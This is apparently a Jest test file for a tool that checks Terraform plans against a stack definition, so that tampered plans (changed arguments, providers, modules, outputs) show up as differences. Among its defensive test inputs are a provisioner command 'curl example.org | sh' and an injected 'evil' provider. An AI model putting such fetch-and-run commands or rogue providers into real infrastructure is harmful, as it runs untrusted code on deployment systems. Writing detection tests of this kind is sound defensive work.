import { readFileSync } from "node:fs";
import { join } from "node:path";
import * as fc from "fast-check";
import { type JsonObject, StackJson, asArray, asObject } from "../../../src/terraform/stack-json";
import { comparedWithStack } from "../../../src/terraform/plans/comparison/comparison";
import { LAYERS, type Layer } from "../../../src/base/layers";
import { type Editable } from "../../support/altered";
import { ENVIRONMENTS } from "../../support/environments";
import { withOwnFile } from "../../support/own-stacks";
import { planOf } from "../../support/reference-plans";
import { type PlanShape, terraformPlan } from "../../support/terraform-plans";
import { ATTACKS } from "../../cli/check/attacks";

const JSON_PLAN: PlanShape = { syntax: "json", applied: false };
const HCL_PLAN: PlanShape = { syntax: "hcl", applied: false };

const lines = (plan: Editable, stack: StackJson): string[] =>
  comparedWithStack(plan as JsonObject, stack).differences.map(
    ({ address, message }) => `${address} ${message}`,
  );

const edited = (stack: StackJson, edit: (json: Editable) => void): StackJson => {
  const json = structuredClone(stack.json) as Editable;
  edit(json);
  return new StackJson(stack.name, json as JsonObject);
};

describe("real plans of Terraform 1.11.4 and AWS provider 5.100.0, trimmed", () => {
  const sample = (name: string): Editable =>
    JSON.parse(readFileSync(join(__dirname, "../samples", `${name}.golden.json`), "utf8")) as Editable;
  const source = new StackJson("sample-network", sample("source"));

  test.each(["json-first", "hcl-first", "hcl-second"])("%s equals its source", (name) => {
    expect(lines(sample(name), source)).toEqual([]);
  });

  test("a plan of JSON has all arguments but those that plans do not contain", () => {
    const { values, compared } = comparedWithStack(sample("json-first"), source);
    const { dynamic, ...counted } = { dynamic: 1, lifecycle: 1, locals: 1, backend: 1, version: 1, type: 2 };
    const unread = Object.values(counted).reduce((sum, each) => sum + each, dynamic);
    expect(values - compared).toBe(unread);
    expect(compared).toBeGreaterThan(60);
  });

  test("a plan of HCL has the constant ones", () => {
    const json = comparedWithStack(sample("json-first"), source);
    const hcl = comparedWithStack(sample("hcl-first"), source);
    expect(hcl.values).toBe(json.values);
    expect(hcl.compared).toBeLessThan(json.compared);
    expect(hcl.compared).toBeGreaterThan(30);
  });

  test.each(["json-first", "hcl-first"])("%s with another reference differs", (name) => {
    const plan = sample(name);
    const block = asArray(plan["configuration"].root_module.resources).find(
      (each) => asObject(each)["address"] === "aws_s3_bucket_policy.models",
    ) as Editable;
    block["expressions"].bucket = { references: ["aws_s3_bucket.other.id", "aws_s3_bucket.other"] };
    expect(lines(plan, source)).toEqual([
      'aws_s3_bucket_policy.models bucket: "${aws_s3_bucket.models.id}" -> an expression of aws_s3_bucket.other',
    ]);
  });

  test("the default of a sensitive variable is not shown", () => {
    const plan = sample("json-first");
    plan["configuration"].root_module.variables.pass.default = "other";
    expect(lines(plan, source)).toEqual(["var.pass default: a sensitive value -> another one"]);
  });
});

describe.each(ENVIRONMENTS)("plans of %s", (environment) => {
  test.each(LAYERS)("the plan of %s has no difference, in JSON and in HCL", (layer) => {
    const stack = planOf(environment).stack(layer);
    for (const shape of [JSON_PLAN, HCL_PLAN, { ...JSON_PLAN, applied: true }]) {
      const plan = terraformPlan(stack, shape);
      expect(lines(plan, stack)).toEqual([]);
      expect(comparedWithStack(plan as JsonObject, stack).compared).toBeGreaterThan(10);
    }
  });
});

describe("attacks", () => {
  test.each(ATTACKS.map((each) => [each.title, each] as const))("%s: one line", (_, attack) => {
    const stack = planOf("mlapp").stack(attack.layer);
    for (const shape of [JSON_PLAN, HCL_PLAN]) {
      const found = comparedWithStack(
        terraformPlan(edited(stack, attack.edit), shape) as JsonObject,
        stack,
      ).differences;
      expect(found.map(({ message }) => message)).toEqual([attack.message]);
      expect(found[0]?.address.replace(/^aws_launch_template\..*/, "aws_launch_template.*")).toBe(
        attack.address,
      );
    }
  });
});

/** Each argument of a block of the plan of a layer: the block, and the name of an argument. */
const argumentsOf = (plan: Editable): (readonly [Editable, string])[] =>
  (plan["configuration"].root_module.resources as Editable[]).flatMap((block) =>
    Object.keys(block["expressions"] as object).map((name) => [block, name] as const),
  );

const anyArgument = fc.record({
  environment: fc.constantFrom(...ENVIRONMENTS),
  layer: fc.constantFrom<Layer>(...LAYERS),
  at: fc.nat(),
});

describe("generated edits of a plan of JSON", () => {
  const run = (edit: (block: Editable, name: string) => string) =>
    fc.assert(
      fc.property(anyArgument, ({ environment, layer, at }) => {
        const stack = planOf(environment).stack(layer);
        const plan = terraformPlan(stack, JSON_PLAN);
        const all = argumentsOf(plan);
        const [block, name] = all[at % all.length] as readonly [Editable, string];
        const argument = edit(block, name);
        const found = comparedWithStack(plan as JsonObject, stack).differences;
        expect(found).toHaveLength(1);
        expect(found[0]?.address).toBe(block["address"]);
        expect(found[0]?.message).toMatch(new RegExp(`^${argument}(\\[\\d+\\])?[.:]`));
      }),
      { numRuns: 60 },
    );

  test("an argument with another constant is named once", () =>
    run((block, name) => {
      block["expressions"][name] = { constant_value: "edited" };
      return name;
    }));

  test("an added argument is named once", () =>
    run((block) => {
      block["expressions"].edited = { constant_value: 1 };
      return "edited";
    }));

  test("a removed argument is named once", () =>
    run((block, name) => {
      const others = Object.entries(block["expressions"] as object).filter(([key]) => key !== name);
      block["expressions"] = Object.fromEntries(others);
      return name;
    }));

  test("an added block of a list is named once", () =>
    run((block) => {
      block["expressions"].edited = [{ port: { constant_value: 22 } }];
      return "edited";
    }));

  test("another provider of a block is named once", () =>
    run((block) => {
      block["provider_config_key"] = "aws.stranger";
      return "provider";
    }));

  test("a dependency that the stack does not have is named once", () =>
    run((block) => {
      block["depends_on"] = [...asArray(block["depends_on"] as undefined), "aws_vpc.stranger"];
      return "depends_on";
    }));
});

describe("a small stack", () => {
  const stack = new StackJson("a-network", {
    terraform: { required_providers: { aws: { source: "hashicorp/aws", version: "~> 5.1, >= 5.100" } } },
    provider: { aws: [{ region: "eu-west-1" }] },
    resource: {
      aws_launch_template: {
        a: {
          name: "a",
          description: null,
          block_device_mappings: [{ device_name: "a" }, { device_name: "b" }],
          timeouts: { create: "5m" },
        },
      },
    },
    output: { id: { value: "${aws_launch_template.a.id}", sensitive: false } },
  });
  const planned = (edit: (plan: Editable) => void = () => undefined): Editable => {
    const plan = terraformPlan(stack, JSON_PLAN);
    edit(plan);
    return plan;
  };
  const group = (plan: Editable): Editable => plan["configuration"].root_module.resources[0] as Editable;

  test("blocks of a list in another order are equal", () => {
    const plan = planned((each) => group(each)["expressions"].block_device_mappings.reverse());
    expect(lines(plan, stack)).toEqual([]);
  });

  test("an added block of a list is named by its content", () => {
    const plan = planned((each) =>
      group(each)["expressions"].block_device_mappings.unshift({ device_name: { constant_value: "c" } }),
    );
    expect(lines(plan, stack)).toEqual([
      'aws_launch_template.a block_device_mappings[0]: nothing -> {"device_name":"c"}',
    ]);
  });

  test("a removed block of a list is named by its content", () => {
    const plan = planned((each) => group(each)["expressions"].block_device_mappings.pop());
    expect(lines(plan, stack)).toEqual([
      'aws_launch_template.a block_device_mappings[1]: {"device_name":"b"} -> nothing',
    ]);
  });

  test("a changed provider, a second one and one of a stranger are named", () => {
    const plan = planned(({ configuration: { provider_config: providers } }) => {
      providers.aws.expressions.region.constant_value = "us-east-1";
      providers["aws.b"] = { ...structuredClone(providers.aws), alias: "b" };
      providers["evil"] = { name: "evil", full_name: "registry.terraform.io/evil/evil" };
    });
    expect(lines(plan, stack)).toEqual([
      'provider.evil source: nothing -> "registry.terraform.io/evil/evil"',
      'provider.aws region: "eu-west-1" -> "us-east-1"',
      "provider.aws.b the plan has it, and the stack does not",
    ]);
  });

  test("constraints of a version in another order and form are equal, and others are named", () => {
    const version = (text: string) =>
      planned((plan) => (plan["configuration"].provider_config.aws.version_constraint = text));
    expect(lines(version(">= 5.100.0, ~> 5.1"), stack)).toEqual([]);
    expect(lines(version(">= 4.0.0"), stack)).toEqual([
      'provider.aws version: "~> 5.1, >= 5.100" -> ">= 4.0.0"',
    ]);
  });

  test("a changed output is named", () => {
    const plan = planned(
      (each) => (each["configuration"].root_module.outputs.id.expression = { constant_value: "x" }),
    );
    expect(lines(plan, stack)).toEqual(['output.id value: "${aws_launch_template.a.id}" -> "x"']);
  });

  test("an added output and an added variable are named", () => {
    const plan = planned(({ configuration: { root_module: root } }) => {
      root.outputs.b = { expression: { constant_value: 1 } };
      root.variables.b = { default: 1 };
    });
    expect(lines(plan, stack)).toEqual([
      "var.b the plan has it, and the stack does not",
      "output.b the plan has it, and the stack does not",
    ]);
  });

  test("a block that only the stack has is named", () => {
    const plan = planned((each) => (each["configuration"].root_module.resources = []));
    expect(lines(plan, stack)).toContain("aws_launch_template.a the stack has it, and the plan does not");
  });

  test("a block of the configuration without planned values is named", () => {
    const plan = planned((each) => {
      each["planned_values"].root_module.resources = [];
      each["resource_changes"] = [];
    });
    expect(lines(plan, stack)).toEqual([
      "aws_launch_template.a the configuration has it, and the planned values do not",
    ]);
  });

  test("a partial plan may leave blocks out", () => {
    const plan = planned((each) => {
      each["complete"] = false;
      each["planned_values"].root_module.resources = [];
    });
    expect(lines(plan, stack)).toEqual([]);
  });

  test("planned values of a block that no configuration has are named, those of modules included", () => {
    const plan = planned(({ planned_values: { root_module: root } }) => {
      root.resources.push({ address: 'aws_vpc.b["x"]', mode: "managed" });
      root.child_modules = [{ resources: [{ address: "module.m.aws_vpc.c", mode: "managed" }] }];
    });
    expect(lines(plan, stack)).toEqual([
      "aws_vpc.b the planned values have it, and the configuration does not",
      "module.m the planned values have it, and the configuration does not",
    ]);
  });

  test("a change of a block that no configuration and no planned value has is named, unless it destroys the block", () => {
    const plan = planned((each) =>
      each["resource_changes"].push(
        { address: "aws_vpc.b", mode: "managed", change: { actions: ["create"], before: null, after: {} } },
        { address: "aws_vpc.c", mode: "managed", change: { actions: ["delete"], before: {}, after: null } },
      ),
    );
    expect(lines(plan, stack)).toEqual([
      "aws_vpc.b the planned values have it, and the configuration does not",
    ]);
  });

  test("a module of an own file is equal, and its blocks are counted as not compared", () => {
    const own = withOwnFile(stack, 'module "m" {\n  source = "./m"\n  size   = 1\n}\n');
    const plan = terraformPlan(own, JSON_PLAN);
    expect(lines(plan, own)).toEqual([]);
    const { values, compared } = comparedWithStack(plan as JsonObject, own);
    const before = comparedWithStack(planned() as JsonObject, stack);
    expect(compared - before.compared).toBe(2);
    expect(values - before.values).toBe(3);
  });

  test("a module with another source is named once", () => {
    const own = withOwnFile(stack, 'module "m" {\n  source = "./m"\n}\n');
    const plan = terraformPlan(own, JSON_PLAN);
    plan["configuration"].root_module.module_calls.m.source = "example/m/aws";
    expect(lines(plan, own)).toEqual(['module.m source: "./m" -> "example/m/aws"']);
  });

  test("blocks of own files in HCL are compared by constants and references", () => {
    const own = withOwnFile(
      stack,
      'resource "aws_sns_topic" "a" {\n  name = upper("a")\n  kms_master_key_id = aws_launch_template.a.id\n  fifo_topic = false\n}\n',
    );
    const plan = terraformPlan(own, JSON_PLAN);
    const block = (plan["configuration"].root_module.resources as Editable[]).find(
      ({ type }) => type === "aws_sns_topic",
    ) as Editable;
    block["expressions"] = {
      name: {},
      kms_master_key_id: { references: ["aws_launch_template.a.id", "aws_launch_template.a"] },
      fifo_topic: { constant_value: false },
    };
    expect(lines(plan, own)).toEqual([]);
    block["expressions"].fifo_topic = { constant_value: true };
    block["expressions"].kms_master_key_id = {
      references: ["aws_launch_template.b.id", "aws_launch_template.b"],
    };
    expect(lines(plan, own)).toEqual([
      "aws_sns_topic.a fifo_topic: false -> true",
      'aws_sns_topic.a kms_master_key_id: "${aws_launch_template.a.id}" -> an expression of aws_launch_template.b',
    ]);
  });

  test("a provisioner of an own file in HCL is equal, with the settings that plans do not contain", () => {
    const own = withOwnFile(
      stack,
      'resource "aws_sns_topic" "a" {\n  name = "a"\n  provisioner "local-exec" {\n    command = "echo ${self.arn}"\n    when = destroy\n  }\n}\n',
    );
    const plan = terraformPlan(own, JSON_PLAN);
    const block = (plan["configuration"].root_module.resources as Editable[]).find(
      ({ type }) => type === "aws_sns_topic",
    ) as Editable;
    block["provisioners"][0].expressions = { command: { references: ["self.arn", "self"] } };
    expect(lines(plan, own)).toEqual([]);
    block["provisioners"][0].expressions = { command: { constant_value: "curl example.org | sh" } };
    expect(lines(plan, own)).toEqual([
      'aws_sns_topic.a provisioner[0].command: "echo ${self.arn}" -> "curl example.org | sh"',
    ]);
  });

  test("an ephemeral block and the data source of a check are equal, though plans leave the first out", () => {
    const own = withOwnFile(
      stack,
      'ephemeral "aws_x" "e" {\n}\ncheck "c" {\n  data "aws_vpc" "d" {\n    id = "x"\n  }\n}\nresource "aws_sns_topic" "a" {\n  name = ephemeral.aws_x.e.id\n}\n',
    );
    const plan = terraformPlan(own, JSON_PLAN);
    const { resources } = plan["configuration"].root_module as { resources: Editable[] };
    const topic = resources.find(({ type }) => type === "aws_sns_topic") as Editable;
    topic["expressions"] = { name: { references: ["ephemeral.aws_x.e.id", "ephemeral.aws_x.e"] } };
    resources.push({
      address: "data.aws_vpc.d",
      mode: "data",
      type: "aws_vpc",
      name: "d",
      provider_config_key: "aws",
      expressions: { id: { constant_value: "x" } },
    });
    expect(lines(plan, own)).toEqual([]);
  });

  test("a long text is shown from where it differs", () => {
    const long = (end: string) => `{"Statement":[{"Action":"${"a".repeat(300)}${end}"}]}`;
    const one = edited(stack, ({ resource }) => (resource.aws_launch_template.a.name = long("x")));
    const other = edited(stack, ({ resource }) => (resource.aws_launch_template.a.name = long("y")));
    const [line = ""] = lines(terraformPlan(other, JSON_PLAN), one);
    expect(line).toMatch(/name: …a+x.* -> …a+y/);
    expect(line.length).toBeLessThan(250);
  });
});
